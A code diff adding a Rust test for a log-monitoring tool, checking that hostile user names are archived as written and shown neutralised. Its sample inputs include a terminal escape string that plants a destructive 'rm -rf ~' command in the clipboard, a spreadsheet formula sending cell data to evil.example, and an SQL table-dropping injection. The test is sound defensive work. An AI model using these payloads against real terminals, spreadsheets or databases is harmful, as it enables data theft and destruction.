@@ -334,3 +334,101 @@ fn a_poison_message_is_dead_lettered_where_it_was_and_the_detector_goes_on() {
     let _ = Command::new("kill").args(["-TERM", &second.0.id().to_string()]).status();
     let _ = second.0.wait();
 }
+
+/// Whatever a line holds is data: a user name made of terminal escapes, a spreadsheet formula
+/// or SQL is archived as written (it is evidence), found by the detector like any other name,
+/// and shown neutralised by every command that prints it (`run`'s findings, `query` as a table,
+/// CSV and JSON, the shell, `report` on screen and to a CSV file). Numbers a log could not mean
+/// (fractions of a count, 1e400, negative counts) are dead letters that say which field and why.
+#[test]
+fn hostile_values_stay_data_are_shown_neutralised_and_impossible_numbers_are_dead_lettered() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    // Clears the screen, retitles the terminal and sets the clipboard (OSC 52), then reverses the text.
+    let ansi = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}]52;c;cm0gLXJmIH4=\u{7}mallory\u{202e}nimda";
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"help\")";
+    let sql = "x'); DROP TABLE login; --";
+    let login = |user: &str, minute: u32| {
+        serde_json::json!({"family": "login", "time": format!("2026-11-02T10:{minute:02}:00Z"), "system": "metrc", "state": "CO",
+            "license": "402R-00001", "location": user, "user": user, "outcome": "failure", "src_ip": "10.0.0.2"})
+        .to_string()
+    };
+    let api = |records: &str| {
+        format!(r#"{{"family":"api","time":"2026-11-02T11:00:00Z","system":"metrc","state":"CO","license":"402R-00001","key_id":"k1","integration":"dutchie","method":"GET","endpoint":"/packages/v2/active","status":200,"src_ip":"10.0.0.1","records":{records}}}"#)
+    };
+    let mut input: Vec<String> = [ansi, formula, sql].iter().flat_map(|user| (0..4).map(move |m| login(user, m))).collect();
+    let impossible = [("1.5", "must be a whole number"), ("1e400", "beyond the 64-bit integer range"), ("-3", "is -3, outside 0.."), ("NaN", "not JSON")];
+    input.extend(impossible.iter().map(|(records, _)| api(records)));
+    input.push(api("48000.0"));
+    let file = dir.path().join("hostile.ndjson");
+    std::fs::write(&file, input.join("\n") + "\n").expect("write");
+    let archive = dir.path().join("archive");
+    let a = archive.display().to_string();
+    let key = dir.path().join("fp.key").display().to_string();
+    let signing = dir.path().join("signing.pem").display().to_string();
+
+    let mut shown: Vec<(String, Vec<u8>)> = Vec::new();
+    let out = seedwatch(&["run", "--input", &file.display().to_string(), "--archive", &a, "--fingerprint-key", &key, "--signing-key", &signing]);
+    assert!(out.status.success(), "run: {}", text(&out.stderr));
+    shown.push(("run".into(), [out.stdout, out.stderr].concat()));
+
+    // Archived byte for byte, and found: one failed-login burst per hostile name.
+    let users: BTreeSet<String> = common::query_json(&archive, "SELECT DISTINCT \"user\" FROM login").iter().filter_map(|r| r["user"].as_str().map(str::to_string)).collect();
+    assert_eq!(users, [ansi, formula, sql].iter().map(|u| u.to_string()).collect(), "the names were not archived as written");
+    let subjects: BTreeSet<String> = common::query_json(&archive, "SELECT subject FROM findings WHERE rule = 'login.failed_burst'").iter().filter_map(|r| r["subject"].as_str().map(str::to_string)).collect();
+    assert_eq!(subjects.len(), 3, "{subjects:?}");
+    assert!([ansi, formula, sql].iter().all(|u| subjects.iter().any(|s| s.contains(u))), "{subjects:?}");
+    // The SQL in a name was never run: the table it names is whole.
+    assert_eq!(count(&archive, "login"), 12);
+
+    // Impossible numbers: dead letters naming the field and the problem; a whole float is a count.
+    let reasons: Vec<String> = common::query_json(&archive, "SELECT reason FROM dead_letter").iter().map(|r| r["reason"].as_str().unwrap_or("").to_string()).collect();
+    assert_eq!(reasons.len(), impossible.len(), "{reasons:?}");
+    for (records, why) in impossible {
+        assert!(reasons.iter().any(|r| r.contains(why)), "{records}: no reason says `{why}`: {reasons:?}");
+    }
+    assert_eq!(common::query_json(&archive, "SELECT records FROM api")[0]["records"].as_i64(), Some(48000));
+
+    // Every way of showing the names.
+    let everything = "SELECT l.\"user\", l.location, f.subject, f.evidence FROM login l JOIN findings f ON f.rule = 'login.failed_burst' AND f.subject LIKE '%' || l.\"user\" || '%'";
+    for format in ["table", "csv", "json"] {
+        let out = seedwatch(&["query", "--archive", &a, "--format", format, everything]);
+        assert!(out.status.success(), "query {format}: {}", text(&out.stderr));
+        assert!(text(&out.stdout).contains("mallory"), "query {format} lost the row: {}", text(&out.stdout));
+        shown.push((format!("query --format {format}"), out.stdout));
+    }
+    let csv = seedwatch(&["query", "--archive", &a, "--format", "csv", "SELECT DISTINCT \"user\" FROM login ORDER BY \"user\""]);
+    assert!(text(&csv.stdout).lines().any(|l| l.starts_with("\"'=HYPERLINK(")), "a formula is not defused: {}", text(&csv.stdout));
+    let mut shell = Command::new(env!("CARGO_BIN_EXE_seedwatch"))
+        .args(["query", "--archive", &a])
+        .current_dir(common::repo())
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("shell");
+    {
+        use std::io::Write;
+        let mut stdin = shell.stdin.take().expect("stdin");
+        writeln!(stdin, "SELECT \"user\", location FROM login;").expect("script");
+    }
+    let out = shell.wait_with_output().expect("shell");
+    assert!(text(&out.stdout).contains("mallory"), "shell: {}{}", text(&out.stdout), text(&out.stderr));
+    shown.push(("the shell".into(), [out.stdout, out.stderr].concat()));
+    let out = seedwatch(&["report", "failed-logins", "--archive", &a, "--from", "2026-11-01", "--to", "2026-11-03"]);
+    assert!(out.status.success(), "report: {}", text(&out.stderr));
+    shown.push(("report".into(), [out.stdout, out.stderr].concat()));
+    let report_csv = dir.path().join("failed.csv");
+    let out = seedwatch(&["report", "failed-logins", "--archive", &a, "--from", "2026-11-01", "--to", "2026-11-03", "--out", &report_csv.display().to_string()]);
+    assert!(out.status.success(), "report --out: {}", text(&out.stderr));
+    let written = std::fs::read(&report_csv).expect("report csv");
+    assert_eq!(text(&written).lines().count(), 4, "a header and three users: {}", text(&written));
+    assert!(text(&written).contains("\"'=HYPERLINK("), "a formula is not defused in the report: {}", text(&written));
+    shown.push(("report --out".into(), written));
+
+    let raw: Vec<String> = shown
+        .iter()
+        .filter(|(_, bytes)| text(bytes).chars().any(|c| c.is_control() && c != '\n' || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')))
+        .map(|(what, bytes)| format!("{what}: {:?}", text(bytes)))
+        .collect();
+    assert!(raw.is_empty(), "raw control characters shown:\n{}", raw.join("\n"));
+}
